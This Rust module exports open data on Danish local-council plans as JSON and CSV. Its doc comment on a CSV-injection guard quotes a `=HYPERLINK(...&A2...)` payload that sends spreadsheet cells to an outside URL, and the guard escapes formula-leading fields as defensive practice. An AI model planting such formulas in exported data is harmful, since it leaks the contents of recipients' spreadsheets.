//! The open data: `planer.json` (every plan: issuer, years, approval, people,
//! meetings, sections and their indsatsområder), `indsatsomraader.json` (every
//! indsatsområde with its status in each plan) and `status.csv` (the statuses as one
//! table). Their fields are documented on the site's `/data/` page; the large ones are
//! written while they are made (see [`super::data`]).

use std::borrow::Cow;
use std::io;

use serde::Serialize;
use serde_json::Value;

use super::data::absolute;
use super::items::ItemsWriter;
use crate::model::digest::{Digests, Fingerprint};
use crate::model::evolution::Status;
use crate::model::{Issuer, Site};
use crate::routes::{Page, Routes};

/// Writes `planer.json`: an item per plan.
pub(super) fn plans(
    site: &Site,
    r: &Routes,
    keys: Option<&Keys>,
    w: &mut ItemsWriter,
) -> io::Result<()> {
    let key = |p: usize| keys.map(|k| k.plan(p));
    pretty_list(w, "plans", site.plans.len(), key, |p| plan_item(site, r, p))
}

/// Writes `indsatsomraader.json`: an item per indsatsområde.
pub(super) fn indsatser(
    site: &Site,
    r: &Routes,
    keys: Option<&Keys>,
    w: &mut ItemsWriter,
) -> io::Result<()> {
    let plans = keys.map(|_| plans_of_indsatser(site));
    let key = |i: usize| Some(keys?.indsats(i, &plans.as_ref()?[i]));
    let len = site.indsatser.len();
    pretty_list(w, "indsatsomraader", len, key, |i| indsats_item(site, r, i))
}

/// What the open data's items are made from, hashed (see [`super::items`]): the
/// site-wide state and URLs, and the digests of the plans an item reads. The compare
/// texts, the feeds and the meeting calendars are kept by the same keys
/// ([`Keys::issuer_file`]).
pub(super) struct Keys<'d> {
    site: &'d Site,
    digests: &'d Digests,
    base: u128,
}

impl<'d> Keys<'d> {
    pub(super) fn new(site: &'d Site, digests: &'d Digests, r: &Routes) -> Keys<'d> {
        let mut base = Fingerprint::new();
        base.bytes(b"open data items 1\0");
        base.text(&r.base);
        base.bytes(&digests.global.to_le_bytes());
        Keys {
            site,
            digests,
            base: base.digest(),
        }
    }

    /// What every item's key shares: the site-wide state and the URLs.
    pub(super) fn shared(&self) -> u128 {
        self.base
    }

    /// The key of an item of `file` (numbered `n`) made from `plans`.
    fn key(&self, file: &str, n: usize, plans: impl Iterator<Item = usize>) -> u128 {
        let mut h = Fingerprint::new();
        h.bytes(&self.base.to_le_bytes());
        h.text(file);
        h.bytes(&(n as u64).to_le_bytes());
        for p in plans {
            h.bytes(&(p as u64).to_le_bytes());
            h.bytes(&self.digests.plans[p].to_le_bytes());
        }
        h.digest()
    }

    /// A file made from the site-wide state and `plans` alone: a compare texts file
    /// (`super::compare`, an issuer's plans), an issuer's feed (a kreds's lists its
    /// kommuner's plans too) or meeting calendar (`super::data`).
    pub(super) fn issuer_file(&self, path: &str, plans: &[usize]) -> u128 {
        self.key(path, 0, plans.iter().copied())
    }

    /// Plan `p`'s item of `planer.json`: the plan alone.
    fn plan(&self, p: usize) -> u128 {
        self.key("planer.json", p, std::iter::once(p))
    }

    /// Plan `p`'s rows of `status.csv`: the plan, and its predecessor, whose section a
    /// dropped indsatsområde's row points to.
    fn rows(&self, p: usize) -> u128 {
        self.key("status.csv", p, self.with_prev(p))
    }

    /// Indsatsområde `i`'s item of `indsatsomraader.json`, made from the `plans` that
    /// have it (and their predecessors, as for [`Keys::rows`]).
    fn indsats(&self, i: usize, plans: &[usize]) -> u128 {
        let with_prev = plans.iter().flat_map(|&p| self.with_prev(p));
        self.key("indsatsomraader.json", i, with_prev)
    }

    /// Plan `p` and its predecessor, if any.
    fn with_prev(&self, p: usize) -> impl Iterator<Item = usize> {
        std::iter::once(p).chain(self.site.plans[p].prev)
    }
}

/// Per indsatsområde, the plans its item reads: those with an entry for it (a status)
/// and those that mention it.
fn plans_of_indsatser(site: &Site) -> Vec<Vec<usize>> {
    let mut plans = vec![Vec::new(); site.indsatser.len()];
    for (p, ev) in site.evolution.plans.iter().enumerate() {
        ev.entries.iter().for_each(|e| plans[e.indsats].push(p));
    }
    for (i, ind) in site.indsatser.iter().enumerate() {
        plans[i].extend(ind.mentions.iter().map(|&(p, _)| p));
        plans[i].sort_unstable();
        plans[i].dedup();
    }
    plans
}

/// Writes `{ "<name>": [items] }` byte for byte as `serde_json::to_writer_pretty`
/// does, and a line break, each item made (or kept) on its own: the national
/// `planer.json` and `indsatsomraader.json` are 15 MB each, and as one tree each held
/// several times that in memory. Items are typed structs borrowing from the model, not
/// `Value` trees: building and dropping those was half of the files' cost.
fn pretty_list<T: Serialize>(
    w: &mut ItemsWriter,
    name: &str,
    len: usize,
    key: impl Fn(usize) -> Option<u128>,
    item: impl Fn(usize) -> T,
) -> io::Result<()> {
    w.raw(b"{\n  ")?;
    w.raw(&serde_json::to_vec(name)?)?;
    if len == 0 {
        return w.raw(b": []\n}\n");
    }
    w.raw(b": [\n    ")?;
    for i in 0..len {
        if i > 0 {
            w.raw(b",\n    ")?;
        }
        w.item(key(i), |buf| indented(buf, &item(i)))?;
    }
    w.raw(b"\n  ]\n}\n")
}

/// `v` in pretty JSON, two levels in: every line after the first indented four spaces.
/// (A JSON string never holds a raw line break, so every one is the format's.)
fn indented<T: Serialize>(buf: &mut Vec<u8>, v: &T) -> io::Result<()> {
    let flat = serde_json::to_vec_pretty(v)?;
    buf.reserve(flat.len() + flat.len() / 8);
    for (n, line) in flat.split(|&b| b == b'\n').enumerate() {
        if n > 0 {
            buf.extend_from_slice(b"\n    ");
        }
        buf.extend_from_slice(line);
    }
    Ok(())
}

/// An issuer as the open data names it. The open data's objects list their keys in
/// alphabetical order (they were `serde_json::Value` maps, and files people diff from
/// release to release keep their shape), so every struct here declares its fields
/// alphabetically.
///
/// `name` is the area's ("Hjørring Kommune"); the plans are the `council`'s ("Lokalrådet i
/// Hjørring Kommune"), which is who a story should name. `kreds` is the kreds the
/// issuer belongs to, a kreds's own for a kredsråd (as in `status.csv`), so grouping by
/// it keeps the kredsråd's plans.
#[derive(Serialize)]
struct IssuerItem<'a> {
    council: String,
    kreds: &'a str,
    name: &'a str,
    slug: &'a str,
    #[serde(rename = "type")]
    kind: &'static str,
}

fn issuer_item(site: &Site, i: Issuer) -> IssuerItem<'_> {
    match i {
        Issuer::Kreds(k) => IssuerItem {
            council: site.issuer_council(i),
            kreds: &site.kredse[k].slug,
            name: &site.kredse[k].name,
            slug: &site.kredse[k].slug,
            kind: "kreds",
        },
        Issuer::Kommune(m) => IssuerItem {
            council: site.issuer_council(i),
            kreds: &site.kredse[site.kommuner[m].kreds].slug,
            name: &site.kommuner[m].full_name,
            slug: &site.kommuner[m].slug,
            kind: "kommune",
        },
    }
}

#[derive(Serialize)]
struct PlanItem<'a> {
    approved: Option<String>,
    approved_place: &'a Option<String>,
    issuer: IssuerItem<'a>,
    kind: &'static str,
    local_priorities: Vec<LocalPrioritiesItem<'a>>,
    meetings: Vec<MeetingItem<'a>>,
    members: Value,
    sections: Vec<SectionItem<'a>>,
    signatories: Value,
    source: Value,
    statistics: Value,
    title: &'a str,
    url: String,
    years: &'a [i64],
}

#[derive(Serialize)]
struct LocalPrioritiesItem<'a> {
    /// Per item, the registered indsatsområde it names (by title or alias), as the
    /// kommune page links it, or `null`: "how many kommuner prioritise X" is answered
    /// from the data too.
    indsatsomraader: Vec<Option<&'a str>>,
    items: &'a [String],
    kommune: &'a str,
}

#[derive(Serialize)]
struct MeetingItem<'a> {
    date: String,
    note: &'a Option<String>,
    place: &'a Option<String>,
    time: &'a Option<String>,
}

/// `indsatsomraader` are the section's own (its heading binds them); `covers` the
/// sub-areas it names (`omfatter=`), and `mentions` those it writes about outside the
/// plan's indsatsområder, as the pages list them.
#[derive(Serialize)]
struct SectionItem<'a> {
    anchor: &'a str,
    covers: Vec<&'a str>,
    indsatsomraader: Vec<&'a str>,
    level: u8,
    mentions: Vec<&'a str>,
    title: &'a str,
}

/// A model struct with its keys in alphabetical order at every level, as a
/// `serde_json::Value` map gives them (these are small: members, signatories, source,
/// statistics).
fn sorted<T: Serialize>(v: &T) -> Value {
    // Plain data with string keys: converting it does not fail.
    serde_json::to_value(v).unwrap_or(Value::Null)
}

fn plan_item<'a>(site: &'a Site, r: &Routes, p: usize) -> PlanItem<'a> {
    let plan = &site.plans[p];
    PlanItem {
        approved: plan.approved.map(|d| d.iso()),
        approved_place: &plan.approved_place,
        issuer: issuer_item(site, plan.issuer),
        kind: plan.kind.as_str(),
        local_priorities: (plan.local_priorities.iter())
            .map(|lp| LocalPrioritiesItem {
                indsatsomraader: named_indsatser(site, &lp.items),
                items: &lp.items,
                kommune: &site.kommuner[lp.kommune].slug,
            })
            .collect(),
        meetings: (plan.meetings.iter())
            .map(|m| MeetingItem {
                date: m.date.iso(),
                note: &m.note,
                place: &m.place,
                time: &m.time,
            })
            .collect(),
        members: sorted(&plan.members),
        sections: (plan.sections.iter())
            .map(|s| SectionItem {
                anchor: &s.anchor,
                covers: ids(site, &s.covers),
                indsatsomraader: ids(site, &s.bindings),
                level: s.level,
                mentions: ids(site, &s.mentions),
                title: &s.title,
            })
            .collect(),
        signatories: sorted(&plan.signatories),
        source: sorted(&plan.source),
        statistics: sorted(&plan.statistics),
        title: &plan.title,
        url: absolute(site, r, &r.url(Page::Plan(p))),
        years: &plan.years,
    }
}

/// Per item, the id of the registered indsatsområde it names, if any.
fn named_indsatser<'a>(site: &'a Site, items: &[String]) -> Vec<Option<&'a str>> {
    (items.iter())
        .map(|item| {
            site.indsats_named(item)
                .map(|i| site.indsatser[i].id.as_str())
        })
        .collect()
}

/// The ids of indsatsområder given by index.
fn ids<'a>(site: &'a Site, v: &[usize]) -> Vec<&'a str> {
    v.iter().map(|&o| site.indsatser[o].id.as_str()).collect()
}

#[derive(Serialize)]
struct IndsatsItem<'a> {
    aliases: &'a [String],
    id: &'a str,
    mentioned_in: Vec<String>,
    related: Vec<&'a str>,
    statuses: Vec<StatusItem<'a>>,
    theme: &'a Option<String>,
    title: &'a str,
    url: String,
}

#[derive(Serialize)]
struct StatusItem<'a> {
    added_words: Option<usize>,
    compared_with: Vec<&'a str>,
    covered: bool,
    issuer: IssuerItem<'a>,
    merged_with: Vec<&'a str>,
    part_of: Vec<&'a str>,
    plan: String,
    previous_plan: Option<String>,
    removed_words: Option<usize>,
    section_anchor: String,
    section_url: String,
    split_from: Vec<&'a str>,
    status: &'static str,
    unchanged_words: Option<usize>,
    years: &'a [i64],
}

fn indsats_item<'a>(site: &'a Site, r: &Routes, i: usize) -> IndsatsItem<'a> {
    let ind = &site.indsatser[i];
    let statuses = (0..site.plans.len())
        .filter_map(|p| site.evolution.entry(p, i).map(|e| (p, e)))
        .map(|(p, e)| {
            let (section_anchor, section_url) = entry_section(site, r, p, e);
            let plan = &site.plans[p];
            StatusItem {
                added_words: e.diff.as_ref().map(|d| d.added_words),
                compared_with: ids(site, &e.compared_with),
                covered: e.covered,
                issuer: issuer_item(site, plan.issuer),
                merged_with: ids(site, &e.merged_with),
                part_of: ids(site, &e.part_of),
                plan: absolute(site, r, &r.url(Page::Plan(p))),
                previous_plan: plan.prev.map(|q| absolute(site, r, &r.url(Page::Plan(q)))),
                removed_words: e.diff.as_ref().map(|d| d.removed_words),
                section_anchor,
                section_url,
                split_from: ids(site, &e.split_from),
                status: e.status.label(),
                unchanged_words: e.diff.as_ref().map(|d| d.unchanged_words),
                years: &plan.years,
            }
        })
        .collect();
    IndsatsItem {
        aliases: &ind.aliases,
        id: &ind.id,
        mentioned_in: (ind.mentions.iter())
            .map(|&(p, s)| absolute(site, r, &r.section(p, s)))
            .collect(),
        related: ids(site, &ind.related),
        statuses,
        theme: &ind.theme,
        title: &ind.title,
        url: absolute(site, r, &r.url(Page::Indsats(i))),
    }
}

/// The columns of `status.csv`, documented field by field on the `/data/` page. New
/// columns go last, so a script that reads columns by position keeps working.
pub const STATUS_CSV_COLUMNS: [&str; 21] = [
    "indsatsomraade",
    "titel",
    "udsteder_type",
    "udsteder",
    "kreds",
    "plan",
    "aar",
    "status",
    "sammenlagt_med",
    "udskilt_fra",
    "del_af",
    "afsnit",
    "afsnit_url",
    "forrige_plan_url",
    "tilfoejede_ord",
    "slettede_ord",
    "uaendrede_ord",
    "kun_naevnt",
    "udsteder_raad",
    "foerste_aar",
    "sidste_aar",
];

/// Indsatsområde ids joined with `;` (a list inside one CSV field).
fn id_list(site: &Site, ids: &[usize]) -> String {
    ids.iter()
        .map(|&i| site.indsatser[i].id.as_str())
        .collect::<Vec<_>>()
        .join(";")
}

/// Issuer type, issuer slug and kreds slug.
fn issuer_columns(site: &Site, issuer: Issuer) -> [String; 3] {
    match issuer {
        Issuer::Kreds(k) => [
            "kreds".into(),
            site.kredse[k].slug.clone(),
            site.kredse[k].slug.clone(),
        ],
        Issuer::Kommune(m) => [
            "kommune".into(),
            site.kommuner[m].slug.clone(),
            site.kredse[site.kommuner[m].kreds].slug.clone(),
        ],
    }
}

/// The section an entry points to: its own in this plan, or (dropped) the previous
/// plan's.
fn entry_section(
    site: &Site,
    r: &Routes,
    p: usize,
    e: &crate::model::evolution::Entry,
) -> (String, String) {
    // Dropped: where it stood in the previous plan. Named only by an umbrella (there,
    // or here): the umbrella's sections that name it (`omfatter=`). Else its own.
    let naming = |plan: usize| -> Vec<usize> {
        (site.plans[plan].sections.iter().enumerate())
            .filter(|(_, s)| s.covers.contains(&e.indsats))
            .map(|(i, _)| i)
            .collect()
    };
    let (plan, secs): (usize, Cow<[usize]>) = match (e.status, site.plans[p].prev) {
        (Status::Udgået, Some(q)) if e.old_sections.is_empty() => (q, naming(q).into()),
        (Status::Udgået, Some(q)) => (q, (&e.old_sections[..]).into()),
        _ if e.covered => (p, naming(p).into()),
        _ => (p, (&e.new_sections[..]).into()),
    };
    let anchors = secs
        .iter()
        .map(|&s| site.plans[plan].sections[s].anchor.as_str())
        .collect::<Vec<_>>()
        .join(";");
    let url = secs
        .first()
        .map(|&s| absolute(site, r, &r.section(plan, s)))
        .unwrap_or_default();
    (anchors, url)
}

/// Writes `status.csv`: a plan's rows per item.
pub(super) fn status_csv(
    site: &Site,
    r: &Routes,
    keys: Option<&Keys>,
    out: &mut ItemsWriter,
) -> io::Result<()> {
    let mut header = csv::Writer::from_writer(Vec::new());
    header.write_record(STATUS_CSV_COLUMNS)?;
    out.raw(&header.into_inner().map_err(|e| e.into_error())?)?;
    for p in 0..site.plans.len() {
        let key = keys.map(|k| k.rows(p));
        out.item(key, |buf| status_rows(site, r, p, buf))?;
    }
    Ok(())
}

/// Plan `p`'s rows of `status.csv`, one per entry of its evolution.
fn status_rows(site: &Site, r: &Routes, p: usize, buf: &mut Vec<u8>) -> io::Result<()> {
    let mut w = csv::Writer::from_writer(buf);
    let plan = &site.plans[p];
    let [kind, name, kreds] = issuer_columns(site, plan.issuer);
    let council = site.issuer_council(plan.issuer);
    let (first, last) = (plan.first_year().to_string(), plan.last_year().to_string());
    let prev = (plan.prev)
        .map(|q| absolute(site, r, &r.url(Page::Plan(q))))
        .unwrap_or_default();
    for e in &site.evolution.plans[p].entries {
        let (anchor, url) = entry_section(site, r, p, e);
        let words = |f: fn(&crate::model::diff::Diff) -> usize| {
            e.diff
                .as_ref()
                .map(|d| f(d).to_string())
                .unwrap_or_default()
        };
        let row: [&str; 21] = [
            &site.indsatser[e.indsats].id,
            &site.indsatser[e.indsats].title,
            &kind,
            &name,
            &kreds,
            plan.kind.as_str(),
            &plan.key,
            e.status.label(),
            &id_list(site, &e.merged_with),
            &id_list(site, &e.split_from),
            &id_list(site, &e.part_of),
            &anchor,
            &url,
            &prev,
            &words(|d| d.added_words),
            &words(|d| d.removed_words),
            &words(|d| d.unchanged_words),
            if e.covered { "ja" } else { "nej" },
            &council,
            &first,
            &last,
        ];
        let row = row.map(|f| spreadsheet_safe(clean_text(f)));
        w.write_record(row.iter().map(|f| f.as_bytes()))?;
    }
    w.flush()
}

/// A field a spreadsheet would not take for a formula: one starting with `=`, `+`, `-`,
/// `@`, a tab or a carriage return gets a leading `'` (OWASP's advice against CSV
/// injection). A registry title `=HYPERLINK("https://…?"&A2;"Indbrud")` in someone's
/// content became a live formula in the journalist's Excel, sending cells away.
fn spreadsheet_safe(s: std::borrow::Cow<'_, str>) -> std::borrow::Cow<'_, str> {
    if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}").into()
    } else {
        s
    }
}

/// Text without the control characters no data format should carry (tab and line
/// breaks kept).
fn clean_text(s: &str) -> std::borrow::Cow<'_, str> {
    if s.chars()
        .any(|c| c.is_control() && !matches!(c, '\t' | '\n' | '\r'))
    {
        s.chars()
            .filter(|&c| !c.is_control() || matches!(c, '\t' | '\n' | '\r'))
            .collect::<String>()
            .into()
    } else {
        s.into()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::render::items::ItemsWriter;

    #[derive(Serialize)]
    struct Sample {
        empty: Vec<u8>,
        nested: Vec<Value>,
        text: &'static str,
    }

    fn written(items: &[Sample]) -> Vec<u8> {
        let mut out = Vec::new();
        let mut w = ItemsWriter::new(&mut out, None);
        pretty_list(&mut w, "plans", items.len(), |_| None, |i| &items[i]).expect("in memory");
        out
    }

    #[test]
    fn a_list_written_item_by_item_is_what_serde_json_writes_whole() {
        let items = [
            Sample {
                empty: vec![],
                nested: vec![serde_json::json!({"a": [1, {"b": []}], "c": {}})],
                text: "to linjer\nog «anførsel» \"citat\"",
            },
            Sample {
                empty: vec![],
                nested: vec![],
                text: "",
            },
        ];
        let mut whole =
            serde_json::to_vec_pretty(&serde_json::json!({ "plans": items })).expect("in memory");
        whole.push(b'\n');
        assert_eq!(
            String::from_utf8_lossy(&written(&items)),
            String::from_utf8_lossy(&whole)
        );
        let mut none =
            serde_json::to_vec_pretty(&serde_json::json!({ "plans": [] })).expect("in memory");
        none.push(b'\n');
        assert_eq!(written(&[]), none);
    }
}
